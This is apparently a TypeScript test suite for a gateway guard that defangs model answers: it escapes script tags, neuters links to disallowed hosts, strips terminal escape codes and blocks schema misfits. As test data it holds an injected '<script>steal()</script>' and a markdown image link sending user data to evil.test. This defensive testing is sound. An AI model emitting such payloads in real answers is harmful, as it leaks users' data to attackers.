// What an answer holds that would run, load or be obeyed comes out harmless and legible, in every format and however it is
// cut; and what does not fit the schema that was asked for is known or stopped.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import type { Json } from '../../lib/canonical-json.ts'
import { beginCall } from '../begin.ts'
import { Inspection } from '../inspection.ts'
import { createEnforcement } from '../policy.ts'
import { askThrough, WAYS } from '../testing-formats.ts'
import { readRequest } from '../wire/openai-chat/read-request.ts'

const CALL = { keyId: 'k', asset: undefined, route: 'r', secret: new Uint8Array(32) }
const ATTACK = 'Hi <script>steal()</script> ![x](https://evil.test/?q=the+user+said+that+he+is+ill) \u001b[2Jend'
const HARMLESS = 'Hi &lt;script>steal()</script> ![x](https[:]//evil.test/?q=the+user+said+that+he+is+ill) end'
const SCHEMA = { type: 'object', properties: { n: { type: 'number' } }, required: ['n'] }

const on = (settings: object = {}) => ({ 'encode-model-output': { mode: 'enforce', ...settings } })

for (const way of WAYS) {
  test(`${way.title}: active content comes out harmless, and arguments of tools as they are`, async (t) => {
    const html = '<script>ok()</script>'
    const { texts, calls, gateway } = await askThrough(t, way, on(), { user: 'Hi' }, { text: ATTACK, call: { html } })
    assert.deepEqual(texts, [HARMLESS])
    assert.deepEqual(calls, [{ html }])
    assert.deepEqual(gateway.exchanges[0]?.decisions[1]?.because, ['encode-model-output'])
  })
  test(`${way.title}: an answer that does not fit is stopped, and one that fits comes through`, async (t) => {
    const ask = (text: string, onMisfit: string) =>
      askThrough(t, way, on({ onMisfit }), { user: 'Hi', schema: SCHEMA }, { text })
    for (const text of ['{"n": "one"}', '{"n": 1', 'Sure! {"n": 1}']) {
      const stopped = await ask(text, 'block')
      assert.deepEqual([stopped.texts.join(''), stopped.stops], ['', ['filtered']])
      assert.ok(!stopped.raw.includes(JSON.stringify(text).slice(1, -1)))
      const noted = await ask(text, 'note')
      assert.deepEqual(noted.texts, [text])
      const verdict = noted.gateway.exchanges[0]?.verdicts.findLast(({ guard }) => guard === 'encode-model-output')
      assert.deepEqual([verdict?.remedy, verdict?.hits[0]?.kind], ['note', 'schema-misfit'])
    }
    assert.deepEqual((await ask('{"n": 1}', 'block')).texts, ['{"n": 1}'])
  })
}

function read(pieces: readonly string[], settings: object, more: object = {}) {
  const enforcement = createEnforcement({ ...on(settings), 'sensitive-output-handling': { mode: 'off' } })
  const turn = readRequest({ model: 'm', messages: [], ...more })
  const inspection = new Inspection(enforcement, 'answer', () => 0, beginCall(enforcement, turn, CALL))
  const lane = inspection.open('assistant', '')
  let out = ''
  for (const piece of pieces) {
    lane.push(piece)
    out += lane.take(lane.safe)
  }
  lane.end()
  return { out: out + lane.take(lane.safe), action: inspection.decision.action, verdict: inspection.verdicts[0] }
}

const HOSTS = { hosts: ['docs.test', '*.good.test'] }

describe('an answer', () => {
  const cases: [title: string, settings: object, text: string, wanted: string][] = [
    ['keeps an honest link', {}, 'See [it](https://docs.test/a?b=c).', 'See [it](https://docs.test/a?b=c).'],
    [
      'keeps what a fence shows as code',
      {},
      '```html\n<script>a()</script>\n```\nok',
      '```html\n<script>a()</script>\n```\nok',
    ],
    ['keeps what a span shows as code', {}, 'Write `<script>a()</script>` there', 'Write `<script>a()</script>` there'],
    ['keeps what an open fence shows', {}, '~~~\n<script>a()</script>', '~~~\n<script>a()</script>'],
    ['loses what follows a fence', {}, '```\na\n```\n<script>', '```\na\n```\n&lt;script>'],
    ['loses what stands beside a span', {}, '`a` <script> `b`', '`a` &lt;script> `b`'],
    ['loses what a single backtick only seems to cover', {}, 'a ` <script>', 'a ` &lt;script>'],
    ['loses what a tag hides a backtick from', {}, '<a title="`"><script>`', '<a title="`">&lt;script>`'],
    ['loses what a cell hides a backtick from', {}, '| ` | <script> ` |', '| ` | &lt;script> ` |'],
    ['loses what an escape hides a backtick from', {}, '\\` <script> `', '\\` &lt;script> `'],
    ['loses what is a fence only outside of HTML', {}, '<div>\n```\n<script>\n```', '<div>\n```\n&lt;script>\n```'],
    ['loses what only an indented fence would cover', {}, '- a\n  ```\n<script>', '- a\n  ```\n&lt;script>'],
    [
      'loses what a fence with another mark does not cover',
      {},
      '```\n~~~\n```\n<script>',
      '```\n~~~\n```\n&lt;script>',
    ],
    ['loses what a line that only looks like a fence does not cover', {}, '``` a`b\n<script>', '``` a`b\n&lt;script>'],
    ['loses each tag where all of them must go', { html: 'all' }, 'a <b>c</b> < d', 'a &lt;b>c&lt;/b> < d'],
    ['keeps links of hosts that are allowed', HOSTS, '[a](https://docs.test/x) https://a.b.good.test', '[a](https://docs.test/x) https://a.b.good.test'], // prettier-ignore
    ['loses links of others', HOSTS, '[a](https://evil.test/x) http://good.test', '[a](https[:]//evil.test/x) http[:]//good.test'], // prettier-ignore
    ['loses hosts that only begin like one', HOSTS, 'https://docs.test.evil.test https://xgood.test', 'https[:]//docs.test.evil.test https[:]//xgood.test'], // prettier-ignore
    ['loses a host behind another’s name', HOSTS, 'https://docs.test@evil.test/', 'https[:]//docs.test@evil.test/'],
    ['loses links without a scheme', HOSTS, '![a](//evil.test/x)', '![a]([//]evil.test/x)'],
    ['loses links whose slashes lean the other way', HOSTS, '![a](https:\\\\evil.test)', '![a](https[:]\\\\evil.test)'],
    ['loses links in entities', HOSTS, '![a](https:&#47;/evil.test)', '![a](https[:]&amp;#47;/evil.test)'],
    ['is encoded for HTML', { sink: 'html' }, `<b a="'">&`, '&lt;b a=&quot;&#39;&quot;&gt;&amp;'],
    ['loses what a terminal obeys', { sink: 'terminal' }, 'a\u001b[31mb\rc\u009bd\n\te', 'a[31mbcd\n\te'],
    ['stays as it is where nothing is shown', { sink: 'none' }, ATTACK, ATTACK],
  ]
  for (const [title, settings, text, wanted] of cases)
    test(title, () => {
      assert.equal(read([text], settings).out, wanted)
      assert.equal(read([...text], settings).out, wanted)
    })

  test('that is JSON stays the same JSON when it is encoded for HTML', () => {
    const value: Json = { a: '</script><b>&"' }
    const { out } = read([JSON.stringify(value)], { sink: 'html' }, { response_format: { type: 'json_object' } })
    assert.ok(!/[<>&]/.test(out))
    assert.deepEqual(JSON.parse(out), value)
  })
  test('is stopped for active content, or only noted', () => {
    assert.equal(read([ATTACK], { onHit: 'block' }).action, 'block')
    const { out, action, verdict } = read([ATTACK], { onHit: 'note' })
    assert.deepEqual([out, action, verdict?.outcome, verdict?.remedy], [ATTACK, 'forward', 'hit', 'note'])
  })
  test('is checked against a schema of the policy where the request asks for none', () => {
    assert.equal(read(['{"n":"x"}'], { schema: SCHEMA, onMisfit: 'block' }).action, 'block')
    assert.equal(read(['{"n":1}'], { schema: SCHEMA, onMisfit: 'block' }).action, 'forward')
  })
  test('whose schema cannot be checked has not passed', () => {
    const { action, verdict } = read(['1'], { schema: { $ref: 'https://evil.test' } })
    assert.deepEqual([action, verdict?.outcome], ['block', 'failed'])
  })

  for (const settings of [{}, { html: 'all', ...HOSTS }, { sink: 'html' }, { sink: 'terminal' }])
    test(`reads the same however it is cut, with ${JSON.stringify(settings)}`, () => {
      const piece = fc.constantFrom(
        '`',
        '``',
        '```',
        '\n',
        '\r\n',
        '~~~',
        '<script>',
        '</script>',
        '<b>',
        ' ',
        '|',
        '\\',
        'x',
        '\u001b[2J',
        '![a](',
        ')',
        'https://evil.test/?data=',
        'https://docs.test/',
        '//',
        '&#47;',
        '"',
        '=',
      )
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 24 }), fc.array(fc.nat(300), { maxLength: 8 }), (pieces, cuts) => {
          const text = pieces.join('')
          const places = [0, ...cuts.toSorted((a, b) => a - b), text.length]
          const parts = places.slice(1).map((end, i) => text.slice(places[i], end))
          const [one, other] = [read(parts, settings), read([text], settings)]
          assert.deepEqual([one.out, one.action], [other.out, other.action])
        }),
        { numRuns: 150 },
      )
    })
})
